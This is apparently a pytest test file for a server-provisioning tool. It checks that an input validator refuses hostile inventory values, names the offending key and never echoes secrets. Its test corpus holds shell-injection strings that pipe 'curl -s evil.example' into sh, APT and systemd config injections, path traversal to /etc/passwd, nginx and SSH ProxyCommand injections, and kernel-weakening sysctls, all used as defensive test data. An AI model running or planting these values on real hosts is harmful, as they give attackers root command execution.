"""Hostile values in every key of inventory/group_data/all.py are refused, key named.

The data a new user's inventory or an EC2 tag carries becomes root commands and config on a
host; the preflight is a grammar per key (wsready/validate.py), so every value below must be
refused by the key's own rule, with the key (or `key[index]`, `key['name']`) in the error,
and secrets shown as '<hidden>'. Each key's corpus follows the kind all.py declares it with
(`key: "kind" = default`): a new key gets its hostile values from its declaration.
"""

from __future__ import annotations

import math
from pathlib import Path

import pytest

from wsready import hostdata
from wsready.hostdata import contract, system
from wsready.hostdata.owned_env import OWNED

HIDDEN = "<hidden>"

SHELL = [
    "x;curl -s evil.example|sh",
    "$(touch /tmp/wsready-pwned)",
    "`id`",
    "a|b",
    "a&&b",
    "a>b",
]
QUOTES = ["a'b", 'a"b', "a\\b"]
CONTROL = ["a\nb", "a\rb", "a\x00b", "a\tb", "ok\n", "\x1b[31m"]
SPACE = ["a b", " a"]
SCOPE = ["fe80::1%eth0", "fe80::%x;curl -s evil.example|sh;/128", "fe80::1%25eth0"]
PERCENT = ["%2e%2e%2f", "a%0ab", "%00"]
DOTDOT = ["..", "../../etc/passwd", "a/../../b"]
COMMA = ["a,b", "http://a.example,*", "10.0.0.0/8,0.0.0.0/0"]
LONG = ["a" * 5000]
UNICODE = ["ехаmple.com", "１２７.０.０.１", "exa\u200bmple.com", "127.0.0.１"]
EMPTY = [""]

EVERYTHING = SHELL + QUOTES + CONTROL + SPACE + SCOPE + PERCENT + DOTDOT + COMMA + LONG
EVERYTHING += UNICODE + EMPTY
WORD = [v for v in EVERYTHING if v not in DOTDOT]  # '..' is a harmless JWT audience
SECRET = QUOTES + CONTROL + SPACE + LONG + UNICODE + EMPTY
ENV_VALUE = CONTROL + LONG  # app_env values are rendered quoted; only non-printables go
NUMBERS = [math.nan, math.inf, -math.inf, -1, True, "1", "1;id", 1e300, None]
NGINX = ["client_max_body_size 5m;" + tail for tail in ("\n} server {", "\rx;", " # x")] + [
    "client_max_body_size 5m; include /etc/passwd;",
    "client_max_body_size 5m",
    "return 200 '$(id)';",
    'add_header X "a";',
    "add_header X \\;;",
    "return 403; } server { listen 81;",
    "if ($x) { return 403; } } server {",
    "location / { include /etc/passwd; }",
    "a" * 2000 + ";",
    "сlient_max_body_size 5m;",
]

# Every key of all.py, as declared there (`key: "kind" = default`): its kind decides the
# corpus and how a value is wrapped; None is no hostile value for a key that accepts it, and
# a secret key's value must never be shown.
DECLARED = contract.declared()
KINDS: dict[str, str] = {key: declared.kind for key, declared in DECLARED.items()}
ACCEPTS_NONE = {key for key, declared in DECLARED.items() if declared.accepts_none}
SECRET_KEYS = {key for key, declared in DECLARED.items() if declared.secret}
# Keys whose rule applies only in context: the data that makes them apply.
CONTEXT = {
    "app_jwt_secret": {"app_auth": "jwt"},
    "nginx_tls_key_file": {"nginx_tls": True},
}


def cases() -> list[tuple[str, object, str]]:
    """(key, hostile value, the error key it must be named under)."""
    found: list[tuple[str, object, str]] = []
    for key, kind in KINDS.items():
        if kind == "bool":
            found += [(key, v, key) for v in ("yes", 1, "True\n", None, "$(id)")]
        elif kind == "number":
            found += [(key, v, key) for v in NUMBERS if not (v is None and key in ACCEPTS_NONE)]
        elif kind in ("word", "host", "ip", "local"):
            found += [(key, v, key) for v in EVERYTHING]
        elif kind == "server_name":  # space-separated names: "a b" is two of them
            found += [(key, v, key) for v in EVERYTHING if v != "a b"]
        elif kind == "text":
            found += [(key, v, key) for v in WORD]
        elif kind == "secret":
            found += [(key, v, key) for v in SECRET]
        elif kind in ("url", "secret_url"):
            found += [(key, v, key) for v in EVERYTHING]
            found += [(key, f"http://p.example:3128/{v}", key) for v in EVERYTHING if v]
            found += [(key, f"http://{v}:3128", key) for v in EVERYTHING]
        elif kind == "urlpath":
            found += [(key, f"/ws/{v}", key) for v in EVERYTHING if v]
        elif kind == "path":
            found += [(key, f"/opt/wsready-app/{v}", key) for v in EVERYTHING if v]
            found += [(key, v, key) for v in ("/etc", "/opt", "/", "/usr/local/bin", "opt/x")]
        elif kind == "prom_path":
            found += [(key, f"/var/lib/node_exporter/{v}.prom", key) for v in EVERYTHING]
            found += [(key, v, key) for v in ("/etc/x.prom", "/var/lib/x.prom", "/x.prom")]
        elif kind in ("word_list", "cidr_list"):
            found += [(key, [v], f"{key}[0]") for v in EVERYTHING]
            found += [(key, v, key) for v in ("0.0.0.0/0", {"a": 1})]
        elif kind == "url_list":
            found += [(key, [v], f"{key}[0]") for v in EVERYTHING]
            found += [(key, [f"http://a.example/{v}"], f"{key}[0]") for v in EVERYTHING if v]
        elif kind == "nginx_list":
            found += [(key, [v], f"{key}[0]") for v in NGINX]
        elif kind == "env":
            found += [(key, {v: "1"}, f"{key}[{v!r}]") for v in EVERYTHING]
            found += [(key, {"NAME": v}, f"{key}['NAME']") for v in ENV_VALUE]
        elif kind == "sysctls":
            found += [(key, {v: 1}, f"{key}[{v!r}]") for v in EVERYTHING]
            found += [
                (key, {"net.core.somaxconn": v}, f"{key}['net.core.somaxconn']") for v in EVERYTHING
            ]
            found += [
                (key, {"net.core.somaxconn": v}, f"{key}['net.core.somaxconn']")
                for v in (-1, True, 1.5)
            ]
        else:
            raise AssertionError(f"{key}: unknown kind {kind}")
    return found


CASES = cases()


def test_every_key_is_classified() -> None:
    assert sorted(set(hostdata.load_defaults()) ^ set(KINDS)) == []


def test_the_corpus_is_large() -> None:
    assert len(CASES) > 1500
    assert {kind for kind in KINDS.values()} >= {"url", "ip", "host", "path", "secret", "env"}


@pytest.mark.parametrize(
    ("key", "value", "named"), CASES, ids=[f"{k}-{i}" for i, (k, _v, _n) in enumerate(CASES)]
)
def test_hostile_value_is_refused_with_its_key(
    key: str, value: object, named: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)  # local paths such as '..' resolve to nothing of ours
    errors = hostdata.validate({**CONTEXT.get(key, {}), key: value})
    mine = [error for error in errors if error.key == named]
    assert mine, f"{key} = {value!r} was accepted; errors: {[str(e) for e in errors]}"
    for error in mine:
        line = str(error)
        assert line.startswith(f"{named} = "), line
        if key in SECRET_KEYS and isinstance(value, str):
            assert error.value in (HIDDEN, None), line
            assert value not in line or len(value) < 3, line


def test_defaults_and_realistic_values_still_pass() -> None:
    good = {
        "proxy_url": "http://10.200.0.1:8888",
        "app_redis_url": "redis://10.0.1.9:6379/0",
        "app_cors_origins": ["https://app.example.com", "http://localhost:3000"],
        "app_env": {"NODE_OPTIONS": "--max-old-space-size=512 --enable-source-maps"},
        "app_jwt_audience": "https://api.example.com/",
        "nginx_server_name": "ws.example.com *.example.com ~^www[.]example[.]com$",
        "nginx_rest_upstream": "http://127.0.0.1:8080",
        "nginx_extra_directives": ["client_max_body_size 5m;", "add_header X-Frame-Options DENY;"],
        "nginx_trusted_proxies": ["10.0.0.0/16", "fd12:3456::/48"],
        "verify_address": "ws.example.com",
        "redis_address": "10.0.1.9",
        "private_address": "2001:db8::5",
        "firewall_ssh_cidrs": ["203.0.113.0/24", "198.51.100.7"],
        "monitor_targets": ["https://ws.example.com/ws", "http://[2001:db8::1]:8080"],
        "monitor_alert_webhook": "https://hooks.example.com/services/T0/B0/x?y=1",
        "monitor_prometheus_file": "/var/lib/prometheus/node-exporter/wsready.prom",
        "nodejs_binary_dir": "/usr/local/lib/nodejs",
        "app_dir": "/srv/wsready-app",
        "kernel_sysctls": {"net.ipv4.ip_local_port_range": "1024 65000", "fs.file-max": 100000},
    }
    assert [str(error) for error in hostdata.validate(good)] == []


# --- the review's verified examples (issue 13, "Why"), one by one ------------------------------


@pytest.mark.parametrize(
    ("key", "value", "named"),
    [
        ("firewall_ssh_cidrs", ["fe80::%x;curl -s evil.example|sh;/128"], "firewall_ssh_cidrs[0]"),
        ("app_bind", "::1%x;curl -s evil.example|sh", "app_bind"),
        ("verify_address", "fe80::1%x';curl -s evil.example|sh;'", "verify_address"),
        (
            "proxy_url",
            'http://p.example:3128/";APT::Update::Pre-Invoke{"curl x|sh";};//',
            "proxy_url",
        ),
        (
            "monitor_prometheus_file",
            "/var/lib/node_exporter/x\nExecStartPre=+/bin/touch /tmp/pwned\n#.prom",
            "monitor_prometheus_file",
        ),
        ("monitor_prometheus_file", "/etc/x.prom", "monitor_prometheus_file"),
        ("app_cors_origins", ["http://a.example,*"], "app_cors_origins[0]"),
        ("app_cors_origins", [], "app_cors_origins"),
        ("app_name", "wsready-app\n", "app_name"),
        ("sg_id", "sg-0123abcd\n", "sg_id"),
    ],
)
def test_reviewed_example_is_refused(key: str, value: object, named: str) -> None:
    assert named in {error.key for error in hostdata.validate({key: value})}


def test_proxy_url_with_binary_nodejs_is_refused_before_files_download() -> None:
    data = {
        "nodejs_source": "binary",
        "nodejs_binary_url": "https://nodejs.example/node-v22.tar.xz",
        "nodejs_binary_sha256": "ab" * 32,
        "proxy_url": "http://p.example:3128/$(touch /tmp/pwned)",
    }
    assert [error.key for error in hostdata.validate(data)] == ["proxy_url"]


def test_one_rule_per_key_monitor_keys_are_ruled_only_by_monitor_data() -> None:
    from wsready.hostdata import contract
    from wsready.hostdata import monitor as monitor_data

    assert set(contract._CHECKS).isdisjoint(monitor_data.CHECKS)
    assert set(monitor_data.CHECKS) <= set(hostdata.CHECKS)
    for key, rule in monitor_data.CHECKS.items():
        assert hostdata.CHECKS[key] is rule
    with pytest.raises(RuntimeError, match="two rules: app_port"):
        contract._one_rule_per_key({"app_port": print}, {"app_port": print})


# --- issue 22: names that belong to the system, app_env overrides, weakening settings, secrets --

# Taken from a real Debian 12 host (scripts/system-names: the sandbox image and a deployed
# sandbox host): every name the app's name or user could collide with.
SYSTEM_NAMES = sorted(system.SYSTEM_NAMES)
APP_NAMES = [name for name in SYSTEM_NAMES if hostdata.contract._APP_NAME.fullmatch(name)]
USER_NAMES = [name for name in SYSTEM_NAMES if hostdata.contract._USER_NAME.fullmatch(name)]


def test_the_system_names_come_from_a_debian_host() -> None:
    # Units, /etc entries, users and groups of the host, and the ones the review reproduced.
    assert len(SYSTEM_NAMES) > 250
    for name in ("default", "ssh", "ssl", "multi-user", "getty", "sshd", "nginx", "www-data"):
        assert name in system.SYSTEM_NAMES, name
    assert not [name for name in SYSTEM_NAMES if name.startswith("wsready")]


@pytest.mark.parametrize("name", APP_NAMES)
def test_a_system_name_is_refused_as_app_name(name: str) -> None:
    errors = [str(error) for error in hostdata.validate({"app_name": name})]
    assert errors and all(line.startswith(f"app_name = {name!r}: ") for line in errors), errors


@pytest.mark.parametrize("name", USER_NAMES)
def test_a_system_user_or_group_is_refused_as_app_user(name: str) -> None:
    errors = [str(error) for error in hostdata.validate({"app_user": name})]
    assert errors and all(line.startswith(f"app_user = {name!r}: ") for line in errors), errors


@pytest.mark.parametrize(
    "value",
    ["/var/lib/private", "/var/lib/private/app", "/var/lib/dpkg/x", "/var/lib/systemd/app",
     "/var/lib/nginx", "/var/lib/redis/app"],
)  # fmt: skip
def test_app_dir_inside_a_system_directory_is_refused(value: str) -> None:
    assert [error.key for error in hostdata.validate({"app_dir": value})] == ["app_dir"]


@pytest.mark.parametrize("name", [*OWNED, *(name.lower() for name in OWNED)])
def test_app_env_cannot_set_what_wsready_writes(name: str) -> None:
    secret = "x" * 40
    (error,) = hostdata.validate({"app_env": {name: secret}})
    assert error.key == f"app_env[{name!r}]"
    assert OWNED[name.upper()].split(" ")[0] in error.why  # says which key sets it
    assert secret not in str(error) and error.value == HIDDEN


def test_the_review_s_app_env_overrides_are_refused() -> None:
    env = {"APP_BIND": "0.0.0.0", "JWT_SECRET": "x", "CORS_ORIGINS": "*", "APP_AUTH": "off"}
    errors = hostdata.validate({"app_env": env})
    assert len(errors) == 1  # the first found; each alone is refused above
    assert "app_bind" in errors[0].why


WEAKENING = [
    ("nginx_trusted_proxies", ["0.0.0.0/0"], "nginx_trusted_proxies[0]"),
    ("nginx_trusted_proxies", ["::/0"], "nginx_trusted_proxies[0]"),
    ("nginx_trusted_proxies", ["10.0.0.0/16", "8.8.8.0/24"], "nginx_trusted_proxies[1]"),
    ("nginx_trusted_proxies", ["0.0.0.0/1"], "nginx_trusted_proxies[0]"),
    ("nginx_trusted_proxies", ["2001:db8::/32"], "nginx_trusted_proxies[0]"),
    ("nginx_trusted_proxies", ["172.0.0.0/8"], "nginx_trusted_proxies[0]"),
    ("ssh_port", 99999, "ssh_port"),
    ("ssh_port", 0, "ssh_port"),
    ("ssh_port", "22;id", "ssh_port"),
    ("ssh_port", True, "ssh_port"),
    ("ssh_user", "root\nProxyCommand=id", "ssh_user"),
    ("ssh_user", "a b", "ssh_user"),
    ("ssh_hostname", "h.example;id", "ssh_hostname"),
    ("ssh_strict_host_key_checking", "maybe", "ssh_strict_host_key_checking"),
    ("ssh_connect_retries", 10_000, "ssh_connect_retries"),
    ("ssh_forward_agent", "yes", "ssh_forward_agent"),
    ("ssh_key", "/root/.ssh/id\n", "ssh_key"),
    ("ssh_prot", 22, "ssh_prot"),
]
WEAKENING += [
    ("kernel_sysctls", {name: value}, f"kernel_sysctls[{name!r}]")
    for name, value in (
        ("kernel.randomize_va_space", 0),
        ("kernel.randomize_va_space", 1),
        ("kernel.kptr_restrict", 0),
        ("kernel.yama.ptrace_scope", 0),
        ("kernel.dmesg_restrict", 0),
        ("kernel.unprivileged_bpf_disabled", 0),
        ("kernel.perf_event_paranoid", 1),
        ("fs.protected_symlinks", 0),
        ("fs.protected_hardlinks", 0),
        ("fs.protected_regular", 0),
        ("fs.protected_fifos", 0),
        ("fs.suid_dumpable", 2),
        ("net.ipv4.ip_forward", 1),
        ("net.ipv6.conf.all.forwarding", 1),
        ("net.ipv4.conf.all.accept_redirects", 1),
        ("net.ipv4.conf.all.accept_source_route", 1),
        ("vm.mmap_min_addr", 0),
        ("kernel.modules_disabled", 1),
    )
]


@pytest.mark.parametrize(("key", "value", "named"), WEAKENING)
def test_a_setting_that_weakens_the_host_is_refused(key: str, value: object, named: str) -> None:
    assert named in [error.key for error in hostdata.validate({key: value})]


def test_hardening_and_private_values_still_pass() -> None:
    good = {
        "nginx_trusted_proxies": ["10.0.0.0/8", "172.16.0.0/12", "192.168.1.0/24", "fd00::/8"],
        "kernel_sysctls": {"kernel.kptr_restrict": 2, "kernel.yama.ptrace_scope": 3},
        "ssh_port": 2222,
        "ssh_user": "admin",
        "ssh_known_hosts_file": "/dev/null",
        "ssh_strict_host_key_checking": "no",
    }
    assert [str(error) for error in hostdata.validate(good)] == []


@pytest.mark.parametrize(
    ("data", "secret"),
    [
        ({"monitor_alert_webhok": "https://hooks.example.com/T0/B0/s3cr3tT0ken"}, "s3cr3tT0ken"),
        ({"app_jwt_secert": "correct-horse-battery-staple-0123456789"}, "correct-horse"),
        ({"redis_passwrd": "hunter2hunter2hunter2hunter2hunter2"}, "hunter2"),
        ({"app_env_extra": {"TOKEN": "tok-12345"}}, "tok-12345"),
        ({"ssh_pasword": "letmein-letmein"}, "letmein"),
        ({"ssh_password": "multi\nline"}, "multi"),
        ({"app_static_token_hashes": ["my-plain-api-token-123"]}, "my-plain-api-token"),
        ({"app_static_token_hashes": ["a" * 64, "sk_live_abcdef"]}, "sk_live"),
    ],
)
def test_no_secret_is_echoed_in_any_error(data: dict, secret: str) -> None:
    errors = hostdata.validate(data)
    assert errors
    for error in errors:
        assert secret not in str(error), str(error)
